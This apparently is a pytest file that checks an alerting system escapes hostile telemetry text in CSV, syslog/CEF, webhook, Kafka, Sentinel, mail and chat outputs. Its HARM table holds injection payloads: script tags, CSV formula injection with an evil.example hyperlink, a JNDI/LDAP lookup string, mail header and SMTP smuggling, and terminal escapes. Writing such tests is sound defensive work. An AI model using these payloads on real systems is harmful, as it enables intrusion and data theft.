"""Whatever a stranger has named a vault, an application or an account: it does no harm in any place that alerts go to."""

from __future__ import annotations

import csv
import io
import json
import re
import socket
from collections.abc import Callable
from email import message_from_bytes
from email.policy import default
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import msgspec
import pytest

from alerts.alert import Alert, Entity
from alerts.formats import FORMATS
from alerts.sinks.file import LineFile
from alerts.sinks.http import Poster
from alerts.sinks.kafka import message as kafka_message
from alerts.sinks.mail import message as mail_message
from alerts.sinks.sentinel import table_row
from alerts.sinks.syslog import Collector, Syslog
from alerts.sinks.texts import chat, chat_title, html, subject, text
from alerts.sinks.webhook import Webhook
from cluster.config_sinks import FORMATS as OF_KIND
from tests.alerts.hostile import row
from tests.cluster.receivers import an_alert, receiving

HARM = {
    "html": '</li><script>alert(1)</script><img src=x onerror="alert(1)">',
    "an attribute": "\" onmouseover='alert(1)' x=\"",
    "a formula": '=HYPERLINK("http://evil.example";"x")',
    "a formula behind a blank": " \t@SUM(1)",
    "a formula behind a separator": 'x",=1+1,"y;=1+1;-1',
    "wide signs": "＝1＋1",
    "a line": "x\nBcc: victim@example.com\r\n\r\n<1>1 - forged - - -",
    "the end of a mail": "x\r\n.\r\nRCPT TO:<v@example.com>",
    "other line breaks": "x\x0b\x0c\x1c\x85\u2028\u2029y",
    "what a terminal obeys": "x\x00\x07\x1b[2J\x1b]0;title\x07\x9b31m",
    "letters that turn the line": "x\u202egnp.exe\u2066\u200f",
    "fields of CEF": "x|10|msg=forged cs1=\\ \\n act=x",
    "markup of chats": "<!channel> @everyone <@U1> [free](http://evil.example) `x` *x*",
    "a template": "{0} %s %n ${jndi:ldap://evil.example/x} {{7*7}}",
    "JSON": '"}\n{"id":"forged","a":[',
}


def harmful(harm: str, **more: Any) -> Alert:
    """Every text that comes from telemetry is this."""
    evidence = {
        "user": harm, "name": harm, harm: [harm], "addresses": [{"address": harm, "clients": [harm]}],
        "callers": [{"object_id": harm, "name": harm, "kind": harm}], "usual": {harm: harm},
        "improbability": 0.1, "odds": harm, "peer": harm, "top_peers": [{"address": harm}],
    }  # fmt: skip
    one = an_alert(
        title=harm, description=harm, entity=Entity("vault", harm), evidence=evidence, incident=harm
    )
    return msgspec.structs.replace(one, remediation=(harm,), region=harm, **more)


every_harm = pytest.mark.parametrize("harm", HARM.values(), ids=HARM)
every_format = pytest.mark.parametrize("form", FORMATS)


def needs(form: str) -> None:
    if form == "stix":
        pytest.importorskip("stix2", reason="the extra `stix` is not installed")


def is_quiet(line: str) -> bool:
    """Nothing in it breaks a line, is obeyed by a terminal, or turns what stands behind it."""
    return all(
        letter.isprintable() or letter == "\ufeff" for letter in line
    )  # the mark that RFC 5424 asks for


def check_line(form: str, body: bytes, harm: str) -> None:
    """One record, in which the text is data and nothing else."""
    line = body.decode()
    match form:
        case "csv":
            (cells,) = csv.reader(io.StringIO(line, newline=""))
            assert len(cells) == 16
            for cell in (part for one in cells for part in one.split(";")):
                assert not cell.lstrip().startswith(tuple("=+-@＝＋－＠"))
            assert is_quiet(line)
        case "cef" | "syslog":
            assert is_quiet(line)
            head = re.split(r"(?<!\\)(?:\\\\)*\|", line[line.index("CEF:0|") :], maxsplit=7)
            assert head[6] in ("6", "1"), "a field of the head was forged"
            assert len(re.findall(r"(?<!\\)(?:\\\\)*=", head[7])) == 13
        case _:
            assert len(line.encode().splitlines()) == 1
            assert not any(ord(letter) < 0x20 for letter in line)
            told = json.loads(line)
            assert harm in _texts(told), "the text is not there as it came"


def _texts(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [one for pair in value.items() for part in pair for one in _texts(part)]
    if isinstance(value, list):
        return [one for part in value for one in _texts(part)]
    return [value] if isinstance(value, str) else []


@every_harm
@every_format
def test_in_a_format(form: str, harm: str) -> None:
    needs(form)
    for word in (harmful(harm), harmful(harm, withdrawn=harm)):
        check_line(form, FORMATS[form][1](word).removesuffix(b"\n").removesuffix(b"\r"), harm)


@every_harm
@every_format
def test_in_a_file(form: str, harm: str, tmp_path: Path) -> None:
    needs(form)
    LineFile(tmp_path / "out", form).send([row(harmful(harm)), row(harmful(harm))], 0.0)
    lines = (tmp_path / "out").read_bytes().removesuffix(b"\n").split(b"\n")
    for line in lines[form == "csv" :]:
        check_line(form, line.removesuffix(b"\r"), harm)
    assert len(lines) == 2 + (form == "csv")


@every_harm
@pytest.mark.parametrize("form", OF_KIND["webhook"])
def test_in_a_webhook(form: str, harm: str) -> None:
    needs(form)
    with receiving() as one:
        Webhook(one.url, Poster(5.0, allow_internal=True), b"key", "token", form).send(
            [row(harmful(harm))], 0.0
        )
    (got,) = one.got
    check_line(form, got.body, harm)
    assert is_quiet("".join((*got.headers, *got.headers.values())))


@every_harm
@pytest.mark.parametrize("form", OF_KIND["kafka"])
def test_in_a_message_of_kafka(form: str, harm: str) -> None:
    needs(form)
    made = kafka_message(row(harmful(harm)), form)
    check_line(form, made["value"], harm)
    assert all(is_quiet(value.decode()) for value in made["headers"].values())


@every_harm
def test_in_a_row_of_sentinel(harm: str) -> None:
    check_line("sentinel", msgspec.json.encode(table_row(row(harmful(harm)))), harm)


@every_harm
@pytest.mark.parametrize("form", OF_KIND["syslog"])
@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_in_syslog(transport: Any, form: str, harm: str) -> None:
    with socket.socket(
        socket.AF_INET, socket.SOCK_DGRAM if transport == "udp" else socket.SOCK_STREAM
    ) as there:
        there.bind(("127.0.0.1", 0))
        there.settimeout(5)
        to = Collector(transport, "127.0.0.1", there.getsockname()[1], "newline", 0.2)
        if transport == "udp":
            Syslog(to, form).send([row(harmful(harm))], 0.0)
            check_line(form, there.recv(65_536), harm)
            return
        there.listen()
        Syslog(to, form).send([row(harmful(harm)), row(harmful(harm))], 0.0)
        with there.accept()[0] as connection, connection.makefile("rb") as got:
            lines = got.read().removesuffix(b"\n").split(b"\n")
    assert len(lines) == 2
    for line in lines:
        check_line(form, line, harm)


class Tags(HTMLParser):
    """The tags of a page with their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[tuple[str, tuple[str, ...]]] = set()
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add((tag, tuple(name for name, _ in attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


OURS = {
    ("html", ()), ("head", ()), ("meta", ("charset",)), ("body", ("style",)),
    ("h2", ()), ("h3", ()), ("ul", ()), ("ol", ()), ("li", ()),
}  # fmt: skip


@every_harm
def test_in_a_mail(harm: str) -> None:
    octets = mail_message(row(harmful(harm), target="soc@example.com"), "alerts@example.com", 0.0).as_bytes()
    made = message_from_bytes(octets, policy=default)
    assert sorted(made.keys()) == sorted(
        [
            "Subject",
            "From",
            "To",
            "Date",
            "Message-ID",
            "References",
            "Auto-Submitted",
            "MIME-Version",
            "Content-Type",
        ]
    )
    assert all(is_quiet(str(value)) for value in made.values())
    plain, page = (part.get_content().replace("\r\n", "\n") for part in made.iter_parts())  # type: ignore[attr-defined]
    assert all(is_quiet(line) for part in (plain, page) for line in part.split("\n"))
    assert Tags(page).tags <= OURS
    assert b"\n.\n" not in octets.replace(b"\r\n", b"\n")


TEXTS: dict[str, Callable[[Alert], str]] = {
    "chat": chat, "title of a chat": chat_title, "text": text, "subject": subject,
}  # fmt: skip


@every_harm
@pytest.mark.parametrize("made", TEXTS.values(), ids=TEXTS)
def test_in_words_for_people(made: Callable[[Alert], str], harm: str) -> None:
    lines = made(harmful(harm)).replace("\u200b", "").split("\n")
    assert all(is_quiet(line) for line in lines)
    assert len(lines) == len(made(harmful("x")).split("\n")) or made is text
    if made in (chat, chat_title):
        assert not any(sign in made(harmful(harm)) for sign in ("<", ">", "[", "]", "`", " @e", "@U"))


@every_harm
def test_in_html_all_of_it_is_shown_as_text(harm: str) -> None:
    page = Tags(html(harmful(harm)))
    assert page.tags <= OURS
    assert "alert(1)" not in harm or "alert(1)" in page.text
